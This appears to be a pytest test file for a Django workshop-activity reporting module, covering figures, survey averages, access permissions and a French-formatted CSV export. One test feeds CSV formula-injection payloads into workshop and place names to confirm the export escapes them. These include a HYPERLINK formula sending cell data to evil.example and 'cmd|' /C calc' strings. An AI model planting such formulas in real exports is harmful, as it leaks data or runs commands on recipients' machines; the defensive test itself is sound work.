"""Activity figures and survey results: the numbers funders get, who may see them, the CSV.

Every expected value below is worked out by hand from the fixture, in the comments next to it.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from calendars import activity
from calendars.activity import Period, Scope
from calendars.models import Attendance, Event, RegistrationStatus, SurveyResponse
from core.accounts.models import NetworkRole
from tests.calendars.factories import make_workshop, paris, register
from tests.factories import PlaceFactory, UserFactory, coordinator, france, local_admin

pytestmark = pytest.mark.django_db

PERIOD = Period(date(2024, 1, 1), date(2024, 6, 30))
QUERY = {"date_from": "2024-01-01", "date_to": "2024-06-30"}


def mark(registration, session, present=True):
    Attendance.objects.create(registration=registration, session=session, present=present)


def survey(registration, overall, content, facilitation, comment="", when=None):
    answer = SurveyResponse.objects.create(
        registration=registration,
        overall=overall,
        content=content,
        facilitation=facilitation,
        comment=comment,
    )
    if when:
        SurveyResponse.objects.filter(pk=answer.pk).update(submitted_at=when)
    return answer


@pytest.fixture
def net():
    t = france()
    fa, fb = UserFactory(), UserFactory()
    a = PlaceFactory(nom="EPN Montbéliard", territory=t["montbeliard"])
    b = PlaceFactory(
        nom="Médiathèque de Gourdon",
        territory=t["gourdon"],
        commune="Gourdon",
        code_postal="46300",
        code_insee="46127",
    )
    a.facilitators.add(fa)
    b.facilitators.add(fb)

    # A1: two 2-hour sessions in the period, a third one cancelled; capacity 10.
    a1 = make_workshop(
        a, title="Premiers pas", capacity=10, starts=[paris(2024, 2, 5, 14), paris(2024, 3, 4, 14)]
    )
    s1, s2 = a1.sessions.order_by("start")
    Event.objects.create(
        calendar=s1.calendar,
        workshop=a1,
        title="annulée",
        start=paris(2024, 3, 11, 14),
        end=paris(2024, 3, 11, 16),
        is_cancelled=True,
    )
    r1, r2, r3 = register(a1), register(a1), register(a1)
    register(a1, status=RegistrationStatus.WAITING)
    gone = register(a1, status=RegistrationStatus.CANCELLED)
    mark(r1, s1), mark(r2, s1), mark(r3, s1, False), mark(gone, s1)
    mark(r1, s2), mark(r2, s2, False), mark(r3, s2)
    survey(r1, 5, 4, 5, "Très bien", when=paris(2024, 3, 5, 10))
    survey(r2, 3, 3, 4, when=paris(2024, 3, 6, 10))

    # A2: a cycle of 1.5-hour sessions, one in the period and one after it; capacity 8.
    a2 = make_workshop(
        a,
        title="Smartphone",
        capacity=8,
        hours=1.5,
        theme="smartphone",
        starts=[paris(2024, 6, 28, 10), paris(2024, 7, 5, 10)],
    )
    inside, after = a2.sessions.order_by("start")
    q1, q2 = register(a2), register(a2)
    mark(q1, inside), mark(q2, inside), mark(q1, after)
    survey(q1, 4, 5, 4, "Utile", when=paris(2024, 7, 6, 10))

    # Not held: a cancelled workshop, one whose only session in the period is cancelled,
    # one after the period.
    a3 = make_workshop(a, title="Annulé", is_cancelled=True, starts=[paris(2024, 4, 2, 14)])
    for _ in range(3):
        mark(register(a3), a3.sessions.get())
    a4 = make_workshop(a, title="Séance annulée", starts=[paris(2024, 4, 10, 14)])
    a4.sessions.update(is_cancelled=True)
    register(a4)
    a5 = make_workshop(a, title="Après", starts=[paris(2024, 9, 1, 14)])
    survey(register(a5), 1, 1, 1, "Hors période")

    # B1: one 3-hour session; capacity 15; four confirmed, one waiting.
    b1 = make_workshop(
        b, title="Démarches en ligne", capacity=15, hours=3, starts=[paris(2024, 5, 14, 9)]
    )
    session = b1.sessions.get()
    p = [register(b1) for _ in range(4)]
    register(b1, status=RegistrationStatus.WAITING)
    mark(p[0], session), mark(p[1], session), mark(p[2], session), mark(p[3], session, False)
    survey(p[0], 2, 3, 3, "Trop rapide", when=paris(2024, 5, 15, 10))
    return {**t, "a": a, "b": b, "fa": fa, "fb": fb, "a1": a1, "a2": a2, "b1": b1}


# --- Figures ------------------------------------------------------------------------------------


def test_network_figures_count_only_what_was_held_in_the_period(net):
    report = activity.activity_report(Scope(Scope.NETWORK), PERIOD)
    totals = report.totals
    assert totals.workshops == 3  # A1, A2, B1
    assert totals.sessions == 4  # A1 × 2 (not the cancelled one), A2 × 1, B1 × 1
    assert totals.seats == 10 + 8 + 15
    assert totals.registered == 3 + 2 + 4  # confirmed only
    # Present marks of confirmed registrations: A1 2 + 2, A2 2, B1 3 = 9,
    # out of A1 3 × 2 + A2 2 × 1 + B1 4 × 1 = 12.
    assert totals.attendance_rate == pytest.approx(75.0)
    # A1: (3 present, the cancelled registration included) × 2 h + 2 × 2 h; A2: 2 × 1.5 h;
    # B1: 3 × 3 h.
    assert totals.hours == pytest.approx(6 + 4 + 3 + 9)
    assert totals.survey_count == 4
    assert totals.overall == pytest.approx((5 + 3 + 4 + 2) / 4)
    assert totals.content == pytest.approx((4 + 3 + 5 + 3) / 4)
    assert totals.facilitation == pytest.approx((5 + 4 + 4 + 3) / 4)
    assert [row.workshop.title for row in report.workshops] == [
        "Premiers pas",
        "Smartphone",
        "Démarches en ligne",
    ]


def test_figures_per_workshop_place_and_month(net):
    report = activity.activity_report(Scope(Scope.NETWORK), PERIOD)
    a1, a2, b1 = (row.figures for row in report.workshops)
    assert (a1.sessions, a1.registered, a1.hours) == (2, 3, 10)
    assert a1.attendance_rate == pytest.approx(100 * 4 / 6)
    assert (a2.sessions, a2.hours, a2.attendance_rate) == (1, 3, 100)
    assert (b1.sessions, b1.hours, b1.attendance_rate, b1.overall) == (1, 9, 75, 2)

    places = {row.place.nom: row.figures for row in report.places}
    a = places["EPN Montbéliard"]
    assert (a.workshops, a.seats, a.registered, a.hours) == (2, 18, 5, 13)
    assert a.attendance_rate == pytest.approx(100 * 6 / 8)
    assert a.overall == pytest.approx((5 + 3 + 4) / 3)
    assert places["Médiathèque de Gourdon"].seats == 15

    months = [
        (r.month.month, r.figures.workshops, r.figures.seats, r.figures.hours)
        for r in report.months
    ]
    assert months == [
        (1, 0, 0, 0),
        (2, 1, 10, 6),
        (3, 1, 10, 4),
        (4, 0, 0, 0),  # A4's only session was cancelled
        (5, 1, 15, 9),
        (6, 1, 8, 3),
    ]
    assert report.months[1].figures.attendance_rate == pytest.approx(100 * 2 / 3)


def test_a_territory_covers_its_places_and_nothing_else(net):
    doubs = activity.activity_report(Scope(Scope.TERRITORY, territory=net["doubs"]), PERIOD)
    assert [row.place.nom for row in doubs.places] == ["EPN Montbéliard"]
    assert doubs.totals.seats == 18
    lot = activity.activity_report(Scope(Scope.TERRITORY, territory=net["lot"]), PERIOD)
    assert lot.totals.registered == 4


def test_attendance_counts_only_sessions_already_over(net):
    report = activity.activity_report(
        Scope(Scope.PLACE, place=net["a"]),
        Period(date(2024, 2, 1), date(2024, 3, 31)),
        now=paris(2024, 3, 1),
    )
    # Only A1's first session is over: 2 present out of 3 confirmed.
    assert report.totals.attendance_rate == pytest.approx(100 * 2 / 3)
    nothing_over = activity.activity_report(
        Scope(Scope.PLACE, place=net["a"]), PERIOD, now=paris(2024, 1, 1)
    )
    assert nothing_over.totals.attendance_rate is None


def test_survey_results_give_averages_distribution_and_newest_comments_first(net):
    results = activity.scope_survey_results(Scope(Scope.NETWORK), PERIOD)
    assert results.count == 4
    assert results.overall == pytest.approx(3.5)
    assert [(rating, n) for rating, n, _share in results.distribution] == [
        (5, 1),
        (4, 1),
        (3, 1),
        (2, 1),
        (1, 0),
    ]
    assert [c.comment for c in results.comments] == ["Utile", "Trop rapide", "Très bien"]

    place = activity.place_survey_results(net["a"])  # every workshop, A5 included
    assert place.count == 4
    assert place.distribution[4] == (1, 1, 25.0)
    assert activity.territory_survey_results(net["lot"]).count == 1
    one = activity.workshop_survey_results(net["a1"])
    assert (one.count, one.content, one.facilitation) == (2, 3.5, 4.5)


def test_figures_take_a_bounded_number_of_queries(net, django_assert_max_num_queries):
    def count():
        with CaptureQueriesContext(connection) as queries:
            activity.activity_report(Scope(Scope.NETWORK), PERIOD)
        return len(queries)

    before = count()
    for i in range(5):
        workshop = make_workshop(net["b"], starts=[paris(2024, 2, 1 + i, 9), paris(2024, 3, 1, 9)])
        mark(register(workshop), workshop.sessions.first())
    assert count() == before
    with django_assert_max_num_queries(4):
        activity.activity_report(Scope(Scope.NETWORK), PERIOD)


# --- Pages and permissions ----------------------------------------------------------------------


def get(client, user, name="activity:index", **params):
    if user is not None:
        client.force_login(user)
    return client.get(reverse(name), params)


def test_anonymous_visitors_are_sent_to_sign_in(client, net):
    for name in ("activity:index", "activity:csv"):
        response = get(client, None, name)
        assert response.status_code == 302
        assert response.url.startswith(reverse("account_login"))
    response = client.get(reverse("activity:workshop_surveys", args=[net["a1"].pk]))
    assert response.status_code == 302


def test_a_member_without_place_or_territory_is_refused(client, net):
    assert get(client, UserFactory(network_role=NetworkRole.MEMBER)).status_code == 403
    assert get(client, UserFactory(), "activity:csv").status_code == 403


def test_a_facilitator_sees_their_place_only(client, net):
    response = get(client, net["fa"], **QUERY)
    assert response.status_code == 200
    assert response.context["scope"].place == net["a"]
    options = [s.key for s in activity.scope_choices(net["fa"])]
    assert options == [f"place-{net['a'].pk}"]
    for scope in (f"place-{net['b'].pk}", f"territory-{net['doubs'].pk}", "network", "x-1"):
        assert get(client, net["fa"], scope=scope, **QUERY).status_code == 404


def test_a_local_administrator_sees_their_territory_and_its_places(client, net):
    admin = local_admin(net["doubs"])
    response = get(client, admin, **QUERY)
    assert response.status_code == 200
    assert response.context["scope"].territory == net["doubs"]
    assert response.context["report"].totals.seats == 18
    page = response.content.decode()
    assert "EPN Montbéliard" in page and "Médiathèque de Gourdon" not in page
    # Territories below one's own are open by address; places of the territory too.
    assert get(client, admin, scope=f"territory-{net['pma'].pk}", **QUERY).status_code == 200
    assert get(client, admin, scope=f"place-{net['a'].pk}", **QUERY).status_code == 200
    for scope in (f"place-{net['b'].pk}", f"territory-{net['lot'].pk}", "network"):
        assert get(client, admin, scope=scope, **QUERY).status_code == 404


def test_the_coordinator_sees_the_network_by_default(client, net):
    boss = coordinator()
    response = get(client, boss, **QUERY)
    assert response.context["scope"].kind == Scope.NETWORK
    keys = [s.key for s in activity.scope_choices(boss)]
    # The network, then régions and départements with places (widest first), then places.
    assert keys[0] == "network"
    assert keys[1:5] == [
        f"territory-{net['bfc'].pk}",
        f"territory-{net['occitanie'].pk}",
        f"territory-{net['doubs'].pk}",
        f"territory-{net['lot'].pk}",
    ]
    page = response.content.decode()
    assert 'role="img"' in page and "<caption>" in page
    assert "Médiathèque de Gourdon" in page and "Trop rapide" in page
    assert "Hors période" not in page  # A5 was not held in the period


def test_the_default_period_is_the_last_twelve_months():
    assert activity.last_twelve_months(date(2026, 12, 3)) == Period(
        date(2026, 1, 1), date(2026, 12, 3)
    )
    assert activity.last_twelve_months(date(2027, 3, 15)).start == date(2026, 4, 1)


def test_the_index_shows_an_empty_state_without_activity(client, net):
    response = get(client, net["fb"], date_from="2020-01-01", date_to="2020-12-31")
    assert response.status_code == 200
    assert response.context["report"].is_empty
    assert "Aucun atelier n’a eu lieu sur cette période" in response.content.decode()


@pytest.mark.parametrize(
    ("date_from", "date_to", "message"),
    [
        (
            "2024-06-30",
            "2024-01-01",
            "Le début de la période doit tomber avant sa fin, ou le même jour.",
        ),
        ("2000-01-01", "2024-01-01", "Choisissez une période de cinq ans au plus."),
        ("pas une date", "2024-01-01", None),
    ],
)
def test_a_bad_period_is_refused_with_a_message(client, net, date_from, date_to, message):
    response = get(client, net["fa"], date_from=date_from, date_to=date_to)
    assert response.status_code == 200
    assert response.context["report"] is None
    page = response.content.decode()
    assert "error-summary" in page
    if message:
        assert message in page
    assert (
        get(client, net["fa"], "activity:csv", date_from=date_from, date_to=date_to).status_code
        == 400
    )


def test_the_index_page_takes_a_bounded_number_of_queries(
    client, net, django_assert_max_num_queries
):
    boss = coordinator()
    client.force_login(boss)
    for i in range(6):
        workshop = make_workshop(net["a"], starts=[paris(2024, 2, 1 + i, 9)])
        registration = register(workshop)
        mark(registration, workshop.sessions.get())
        survey(registration, 4, 4, 4, f"Commentaire {i}")
    with django_assert_max_num_queries(20):
        response = client.get(reverse("activity:index"), QUERY)
    assert response.status_code == 200


# --- CSV ----------------------------------------------------------------------------------------


def test_the_csv_has_a_row_per_workshop_and_a_totals_row(client, net):
    response = get(client, coordinator(), "activity:csv", scope="network", **QUERY)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="' in response["Content-Disposition"]
    assert "2024-01-01_2024-06-30.csv" in response["Content-Disposition"]
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    header, *workshops, totals = rows
    assert len(header) == 14 and len(workshops) == 3
    first = workshops[0]
    assert first[0] == "EPN Montbéliard"
    assert first[1] == "Montbéliard"
    assert first[2] == "Premiers pas"
    assert first[5] == "2"  # sessions in the period
    assert first[6] == "05/02/2024" and first[7] == "04/03/2024"  # French short dates
    assert first[8:] == ["10", "3", "66,7", "10,0", "4,00", "2"]  # decimal comma in French
    assert totals[0] == "Total"
    assert totals[5] == "4"
    assert totals[8:] == ["33", "9", "75,0", "22,0", "3,50", "4"]


def test_the_csv_follows_the_scope(client, net):
    response = get(client, net["fb"], "activity:csv", **QUERY)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert [row[2] for row in rows[1:-1]] == ["Démarches en ligne"]
    assert "mediatheque-de-gourdon" in response["Content-Disposition"]
    assert get(client, net["fb"], "activity:csv", scope=f"place-{net['a'].pk}").status_code == 404


def test_the_csv_never_carries_a_live_formula(client, net):
    # A title or a name typed as a formula must arrive in the spreadsheet as text.
    title = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez ici")'
    net["a"].nom = "@SUM(1+1)*cmd|' /C calc'!A0"
    net["a"].save()
    net["a1"].title = title
    net["a1"].save()
    outside = PlaceFactory(nom="Espace sans territoire", territory=None, commune="-2+3+cmd|' /C")
    make_workshop(outside, title="+cmd|' /C calc'!A0", starts=[paris(2024, 2, 6, 14)])
    response = get(client, coordinator(), "activity:csv", scope="network", **QUERY)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    first = next(row for row in rows if row[2] == "'" + title)
    assert first[0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert first[8:] == ["10", "3", "66,7", "10,0", "4,00", "2"]  # figures stay numbers
    other = next(row for row in rows if row[0] == "Espace sans territoire")
    assert other[1:3] == ["'-2+3+cmd|' /C", "'+cmd|' /C calc'!A0"]


# --- Survey results of one workshop -------------------------------------------------------------


def test_who_manages_a_workshop_reads_its_surveys(client, net):
    url = reverse("activity:workshop_surveys", args=[net["a1"].pk])
    client.force_login(net["fa"])
    page = client.get(url)
    assert page.status_code == 200
    assert "Très bien" in page.content.decode()
    assert page.context["surveys"].count == 2
    client.force_login(net["fb"])
    assert client.get(url).status_code == 403  # a published workshop: it exists, not theirs
    hidden = make_workshop(net["a"], is_published=False)
    assert client.get(reverse("activity:workshop_surveys", args=[hidden.pk])).status_code == 404


def test_sessions_of_the_period_boundaries_follow_the_paris_clock(net):
    # 30 June 2024 23:30 in Paris is still June; 1 July 00:30 is not.
    late = make_workshop(net["b"], starts=[paris(2024, 6, 30, 23, 30)], hours=0.5)
    early = make_workshop(net["b"], starts=[paris(2024, 7, 1, 0, 30)])
    titles = {
        row.workshop.pk for row in activity.activity_report(Scope(Scope.NETWORK), PERIOD).workshops
    }
    assert late.pk in titles and early.pk not in titles
    assert isinstance(PERIOD.upper, datetime)
    assert PERIOD.upper - PERIOD.lower > timedelta(days=180)
